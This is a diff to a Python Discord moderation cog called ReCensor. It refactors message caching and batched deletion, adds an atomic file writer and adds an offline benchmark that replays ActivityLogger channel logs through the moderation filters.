@@ -3399,12 +6028,12 @@ class ReCensor:
             return
 
         settings = self.settings[server.id]
-        message_deque = self._message_cache[cache_key]
+        message_deque = self._message_cache.get_window(cache_key)
         self.cleanup_deque(message_deque)
 
         # Only set if message is new or when updating existing
         if (message.id in message_deque) == _edit:
-            message_deque[message.id] = message
+            message_deque[message.id] = CachedMessage(message)
 
         if not message.channel.permissions_for(server.me).manage_messages:
             return
@@ -3419,7 +6048,7 @@ class ReCensor:
                          (filter_name, message.server.id, message.channel.id,
                           message.id, message.author.id, _edit))
 
-            await self.bot.delete_message(message)
+            self._deletions.add((message,))
             # deleting a message may make a gap
             message_deque.pop(message.id, None)
 
@@ -3429,6 +6058,14 @@ class ReCensor:
         await self.handle_seq(self.settings[server.id], message_deque, list_cache)
 
     async def on_message_edit(self, old_message, new_message):
+        # Embeds being added (e.g. link previews) also trigger edits; skip those that change nothing we scan
+        message_deque = self._message_cache.get((new_message.channel.id, new_message.author.id))
+        scanned = message_deque.get(new_message.id) if message_deque else None
+        digest = content_digest(new_message)
+
+        if digest == (scanned.digest if scanned else content_digest(old_message)):
+            return
+
         await self.on_message(new_message, _edit=True)
 
     async def on_message_delete(self, message):
@@ -3451,16 +6088,10 @@ class ReCensor:
         await self.handle_seq(self.settings[server.id], message_deque)
 
     @staticmethod
-    def cleanup_deque(message_deque: BoundedOrderedDict):
-        cutoff = datetime.utcnow() - timedelta(seconds=MSG_HISTORY_MAX_TIME)
-
-        for message_obj in list(message_deque.values()):
-            if message_obj.timestamp > cutoff:
-                break
-            else:
-                message_deque.popitem(last=False)  # popleft
+    def cleanup_deque(message_deque: MessageWindow):
+        message_deque.expire(datetime.utcnow() - timedelta(seconds=MSG_HISTORY_MAX_TIME))
 
-    async def handle_seq(self, settings: ServerConfig, message_deque: BoundedOrderedDict,
+    async def handle_seq(self, settings: ServerConfig, message_deque: MessageWindow,
                          list_cache: Optional[dict] = None):
         all_to_delete = []
 
@@ -3469,7 +6100,7 @@ class ReCensor:
 
         # Try until the deque is empty or we're out of stuff to delete (cascades)
         while message_deque:
-            filter_hit, to_delete, match_substr = await settings.check_sequence(message_deque.values(), list_cache)
+            filter_hit, to_delete, match_substr = await settings.check_sequence(message_deque, list_cache)
             to_delete = sorted(to_delete, key=lambda m: m.id)
 
             if not to_delete:
@@ -3489,16 +6120,44 @@ class ReCensor:
             if filter_hit:
                 await self.post_flash(filter_hit, to_delete[0], match=match_substr, messages=to_delete)
 
-        if len(all_to_delete) == 1:
-            await self.bot.delete_message(all_to_delete[0])
-        elif all_to_delete:
-            await self.bot.delete_messages(all_to_delete)
+        self._deletions.add(all_to_delete)
+
+    async def on_member_update(self, before, after):
+        self.forget_member(after)
+
+    async def on_member_remove(self, member):
+        self.forget_member(member)
+
+    async def on_server_role_update(self, before, after):
+        if before.name != after.name:
+            self._privileged.pop(after.server.id, None)
+
+    async def on_server_role_delete(self, role):
+        self._privileged.pop(role.server.id, None)
 
     async def on_command(self, command, ctx):
         if ctx.cog is self and self.analytics:
             self.analytics.command(ctx)
 
 
+def write_atomic(path: str, text: str):
+    """
+    Writes text to path through a temporary file, so the file is never left half-written
+    """
+    fd, tmp_path = tempfile.mkstemp(suffix='.tmp', dir=os.path.dirname(path) or None)
+
+    try:
+        with open(fd, 'w', encoding='utf-8') as f:
+            f.write(text)
+            f.flush()
+            os.fsync(f.fileno())
+
+        os.replace(tmp_path, path)
+    except BaseException:
+        os.unlink(tmp_path)
+        raise
+
+
 def check_folder():
     if not os.path.exists(DATA_PATH):
         logger.debug('Creating folder: %s' % DATA_PATH)
@@ -3567,3 +6226,198 @@ def setup(bot):
     check_folder()
     check_file()
     bot.add_cog(ReCensor(bot))
+
+
+# Offline benchmark
+
+ACTIVITYLOG_LINE_RE = re.compile(r'^(\d{4}-\d\d-\d\d \d\d:\d\d:\d\d) #(\S+) @(.+?)#(\d{4}): (.*)$')
+ACTIVITYLOG_ATTACHMENT_RE = re.compile(r' \(attachment (?:url\(s\)|saved to) (.+)\)$')
+
+_benchmark_ids = itertools.count(1)
+
+
+class BenchmarkCog:
+    """
+    Provides what ServerConfig needs from ReCensor, without a bot or a Discord connection
+    """
+    run_task = ReCensor.run_task
+    reset_executor = ReCensor.reset_executor
+    validate_filters = ReCensor.validate_filters
+    is_inline_safe = ReCensor.is_inline_safe
+    safety_tester = ReCensor.safety_tester
+
+    def __init__(self, loop, mods: Iterable[str] = ()):
+        self.bot = types.SimpleNamespace(loop=loop)
+        self.executor = ExecutorClass()
+        self.validator = ExecutorClass(max_workers=1)
+        self._inline_safe = BoundedOrderedDict(maxlen=INLINE_SAFE_CACHE_SIZE)
+        self._safety_queue = []
+        self._safety_task = None
+        self.mods = set(mods)
+        self.libraries = {}
+
+    def save(self, server_id: Optional[str] = None):
+        pass
+
+    def is_privileged(self, message: CachedMessage) -> bool:
+        return message.author.id in self.mods
+
+
+def read_activitylog(path: str, server: discord.Server) -> Iterator[CachedMessage]:
+    """
+    Yields messages from an ActivityLogger channel log. Edits, deletions and other events are skipped.
+
+    The channel ID is taken from the file name. Authors are identified by name#discriminator, and get
+    IDs. Message IDs are sequential across all logs read.
+    """
+    channel_id = os.path.splitext(os.path.basename(path))[0].rpartition('_')[2]
+    channel = None
+    authors = {}
+
+    with open(path, encoding='utf-8', errors='replace') as f:
+        for line in f:
+            match = ACTIVITYLOG_LINE_RE.match(line.rstrip('\n'))
+
+            if not match:
+                continue
+
+            timestamp, channel_name, name, discriminator, content = match.groups()
+            attachment = ACTIVITYLOG_ATTACHMENT_RE.search(content)
+            attachments = ()
+
+            if attachment:
+                content = content[:attachment.start()]
+                url = attachment.group(1).split(',')[0]
+                attachments = ({'filename': url.rstrip('/').rpartition('/')[2]},)
+
+            if channel is None:
+                channel = discord.Channel(id=channel_id, name=channel_name, server=server, type='text')
+
+            if (name, discriminator) not in authors:
+                authors[(name, discriminator)] = discord.User(username=name, discriminator=discriminator,
+                                                              id='%s#%s' % (name, discriminator))
+
+            yield CachedMessage(types.SimpleNamespace(
+                id='%020i' % next(_benchmark_ids),
+                timestamp=datetime.strptime(timestamp, '%Y-%m-%d %H:%M:%S'),
+                content=content.replace('\\n', '\n'),
+                attachments=attachments,
+                author=authors[(name, discriminator)],
+                channel=channel,
+                server=server
+            ))
+
+
+async def benchmark(settings: ServerConfig, messages: Iterable[CachedMessage], sequences: bool = True) -> dict:
+    """
+    Replays messages through check_message and check_sequence as on_message would, and returns the
+    number of messages, time taken and a Counter of verdicts. Deleted messages are removed from the
+    histories, but nothing is actually deleted.
+    """
+    verdicts = Counter()
+    histories = MessageCache(MSG_CACHE_MAX_BYTES)
+    multi_msg = any(f.multi_msg for f in settings.filters.values())
+    count = 0
+    t0 = time.perf_counter()
+
+    for message in messages:
+        count += 1
+        list_cache = {}
+        filter_hit, should_delete, _ = await settings.check_message(message, list_cache)
+
+        if should_delete:
+            verdicts['deleted by %s' % (filter_hit.name if filter_hit else '<ambiguous>')] += 1
+            continue
+        elif not (sequences and multi_msg):
+            verdicts['allowed'] += 1
+            continue
+
+        window = histories.get_window((message.channel.id, message.author.id))
+        window.expire(message.timestamp - timedelta(seconds=MSG_HISTORY_MAX_TIME))
+        window[message.id] = message
+        deleted = False
+
+        while window:
+            filter_hit, to_delete, _ = await settings.check_sequence(window, list_cache)
+
+            if not to_delete:
+                break
+
+            for deleted_message in to_delete:
+                window.pop(deleted_message.id, None)
+
+            deleted = deleted or message in to_delete
+            verdicts['sequence hit by %s' % (filter_hit.name if filter_hit else '<ambiguous>')] += 1
+
+        if not deleted:
+            verdicts['allowed'] += 1
+
+    return {'messages': count, 'time': time.perf_counter() - t0, 'verdicts': verdicts}
+
+
+def main(argv: Optional[Sequence[str]] = None):
+    """
+    Benchmark entry point, run from the bot's folder with: python -m cogs.recensor
+    """
+    parser = argparse.ArgumentParser(prog='python -m cogs.recensor',
+                                     description='Replays ActivityLogger channel logs through ReCensor filters '
+                                                 'and reports throughput, verdicts and per-filter cost.')
+    parser.add_argument('logs', nargs='+', help='ActivityLogger channel log files')
+    parser.add_argument('--settings', default=JSON_PATH, help='ReCensor settings file (default: %(default)s)')
+    parser.add_argument('--server', help='server ID to load filters from (default: the folder of each log file)')
+    parser.add_argument('--mods', nargs='*', default=(), metavar='NAME#DISCRIMINATOR',
+                        help='authors to treat as mods, for priv-exempt filters')
+    parser.add_argument('--single', action='store_true', help="don't run multi-message filters")
+    parser.add_argument('--top', type=int, default=20, help='number of filters to list (default: %(default)s)')
+    args = parser.parse_args(argv)
+
+    logging.basicConfig(level=logging.WARNING)
+    loop = asyncio.get_event_loop()
+    cog = BenchmarkCog(loop, args.mods)
+    data = dataIO.load_json(args.settings)
+
+    if data.get('_schema_version', 1) < 2:
+        data = migrate_data(data)
+
+    cog.libraries = {k: FilterLibrary(k, v) for k, v in data.pop('_libraries', {}).items()}
+    by_server = defaultdict(list)
+
+    for path in args.logs:
+        by_server[args.server or os.path.basename(os.path.dirname(os.path.abspath(path)))].append(path)
+
+    for server_id, paths in by_server.items():
+        if server_id not in data:
+            print('No filters for server %s, skipping %s' % (server_id, ', '.join(paths)))
+            continue
+
+        settings = ServerConfig(cog, server_id, **data[server_id])
+        server = discord.Server(id=server_id, roles=[{'id': server_id, 'name': '@everyone'}])
+        messages = itertools.chain.from_iterable(read_activitylog(p, server) for p in paths)
+        result = loop.run_until_complete(benchmark(settings, messages, not args.single))
+
+        print('Server %s: %i messages in %.3fs (%.1f messages/s)'
+              % (server_id, result['messages'], result['time'], result['messages'] / (result['time'] or 1)))
+
+        for verdict, count in result['verdicts'].most_common():
+            print('  %-40s %8i' % (verdict, count))
+
+        counted = sorted((f for f in settings.filters.values() if f.stats.evaluations or f.stats.skips),
+                         key=lambda f: f.stats.total_time, reverse=True)
+
+        print('\n  %-24s %8s %8s %6s %10s %9s %9s' % ('Filter', 'Runs', 'Skipped', 'Hits', 'Total (ms)',
+                                                     'p99 (ms)', 'Wait (ms)'))
+
+        for f in counted[:args.top]:
+            p99 = f.stats.percentile(0.99)
+            print('  %-24s %8i %8i %6i %10.1f %9s %9.1f' % (f.name[:24], f.stats.evaluations, f.stats.skips,
+                                                            f.stats.hits, f.stats.total_time * 1000,
+                                                            '-' if p99 is None else '%.3f' % (p99 * 1000),
+                                                            f.stats.wait_time * 1000))
+
+        print()
+
+    cog.executor.shutdown(wait=True)
+
+
+if __name__ == '__main__':
+    main()